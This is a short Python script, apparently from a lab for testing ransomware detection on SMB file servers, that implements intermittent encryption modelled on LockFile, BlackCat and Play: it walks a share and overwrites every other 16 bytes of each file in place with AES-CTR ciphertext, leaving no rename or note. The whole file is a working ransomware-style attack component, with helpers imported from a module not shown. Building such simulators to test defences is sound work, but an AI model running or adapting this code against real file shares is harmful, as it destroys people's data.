#!/usr/bin/python3
"""Intermittent encryption over SMB3 (as LockFile, BlackCat and Play do for speed): every other 16 bytes of each
file XORed with an AES-CTR keystream and written back in place; no rename, no note.

Environment: SMB_SERVER, SMB_SHARE, SMB_USER, SMB_PASS (set by `lab attack`);
ATTACK_MAX_FILES (default: every file); ATTACK_ROOT (folder to start in, default the share root).

Output and reconnects as attacks/classic.py: start, one "encrypted FIRST_WRITE_MS DONE_MS PATH"
per file, "stopped MS REASON" when the server refuses, files_encrypted N.
"""

import os
import sys

# The shared modules sit one folder up; leave no bytecode in the source tree.
sys.dont_write_bytecode = True
sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), ".."))

from smblab import Attack  # noqa: E402

STRIPE = 16


class Intermittent(Attack):
	def damage(self, path):
		return self.rewrite(path, self.stripes)

	def stripes(self, data):
		"""Bytes 0-15 encrypted, 16-31 kept, 32-47 encrypted, and so on."""
		enc = self.cipher().encrypt(data)
		step = 2 * STRIPE
		return b"".join(enc[i:i + STRIPE] + data[i + STRIPE:i + step] for i in range(0, len(data), step))


if __name__ == "__main__":
	sys.exit(Intermittent().run())
